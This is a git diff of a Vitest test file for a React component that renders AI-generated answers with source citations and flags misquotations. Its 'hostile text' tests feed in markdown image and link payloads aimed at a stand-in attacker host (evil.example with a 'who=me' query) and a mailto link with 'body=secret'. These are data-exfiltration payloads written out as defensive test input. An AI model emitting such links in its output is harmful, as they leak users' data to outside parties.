@@ -1,6 +1,7 @@
 import { renderToStaticMarkup } from 'react-dom/server'
 import { describe, expect, it } from 'vitest'
 import type { Source } from '#contract/source.ts'
+import { TooltipProvider } from '#web/ui/tooltip.tsx'
 import { AnswerContext, type Answer } from './answer-context.tsx'
 import { AnswerText } from './answer-text.tsx'
 
@@ -14,18 +15,23 @@ const source: Source = {
   text: 'Bees',
   score: 1,
 }
-const answer: Answer = {
-  sources: new Map([[1, source]]),
-  numbers: new Set([1]),
+const answer: Omit<Answer, 'misquotes'> = {
+  sources: new Map<number, Source>([
+    [1, source],
+    [3, { n: 3, address: 'https://news.example/?id=7', title: 'News', text: 'Today' }],
+  ]),
+  numbers: new Set([1, 3]),
   pointedAt: null,
   pointAt: () => undefined,
   open: () => undefined,
 }
-const render = (text: string): string =>
+const render = (text: string, misquotes: string[] = []): string =>
   renderToStaticMarkup(
-    <AnswerContext value={answer}>
-      <AnswerText text={text} writing={false} marginNotes={false} />
-    </AnswerContext>,
+    <TooltipProvider>
+      <AnswerContext value={{ ...answer, misquotes }}>
+        <AnswerText text={text} writing={false} marginNotes={false} />
+      </AnswerContext>
+    </TooltipProvider>,
   )
 
 describe('hostile text in an answer', () => {
@@ -42,11 +48,24 @@ describe('hostile text in an answer', () => {
   })
 
   it('loads no image and offers its address instead', () => {
-    const html = render('![chart](https://evil.example/x.png?who=me)')
+    const html = render('![chart](https://pictures.example/x.png)')
     expect(html).not.toContain('<img')
     expect(html).toContain(
-      '<a href="https://evil.example/x.png?who=me" target="_blank" rel="noopener noreferrer">chart</a>',
+      '<a href="https://pictures.example/x.png" target="_blank" rel="noopener noreferrer">chart</a>',
     )
+  })
+
+  it('shows an address with data in it, and lets nobody follow it by a slip', () => {
+    for (const text of ['![chart](https://evil.example/x.png?who=me)', '[chart](https://evil.example/x.png?who=me)']) {
+      const html = render(text)
+      expect(html).not.toMatch(/<a |<img/)
+      expect(html).toContain('chart (<code>https://evil.example/x.png?who=me</code>)')
+    }
+    expect(render('[write](mailto:a@evil.example?body=secret)')).not.toContain('<a ')
+  })
+
+  it('links a page of the web that is a source, whatever its address', () => {
+    expect(render('See [the page](https://news.example/?id=7).')).toContain('href="https://news.example/?id=7"')
   })
 })
 
@@ -56,6 +75,22 @@ it('sets markers of known sources as buttons and leaves other brackets alone', (
   expect(html).toContain('aria-label="Source 1: Bees.pdf page 3"')
   expect(html).toContain('see [2] and')
   expect(html).toContain('a[1]</code>')
+})
+
+it('sets the marker of a page of the web as a link that tells the page nothing', () => {
+  expect(render('As they say [3].')).toContain(
+    'href="https://news.example/?id=7" target="_blank" rel="noopener noreferrer" aria-label="Source 3: News">3</a>',
+  )
+})
+
+it('marks quotations that their source does not hold, in a sentence and as a block', () => {
+  const html = render('It says "bees sing" [1], and "bees" [1].\n\n> Bees sing.\n> Loudly. [1]', [
+    'bees sing',
+    'Bees sing. Loudly. [1]',
+  ])
+  expect(html.match(/data-misquote/g)).toHaveLength(1)
+  expect(html).toMatch(/data-misquote[^>]*>bees sing</)
+  expect(html).toMatch(/<p[^>]*>Not found word for word in the source<\/p><\/blockquote>/)
 })
 
 it('draws every kind of block', () => {
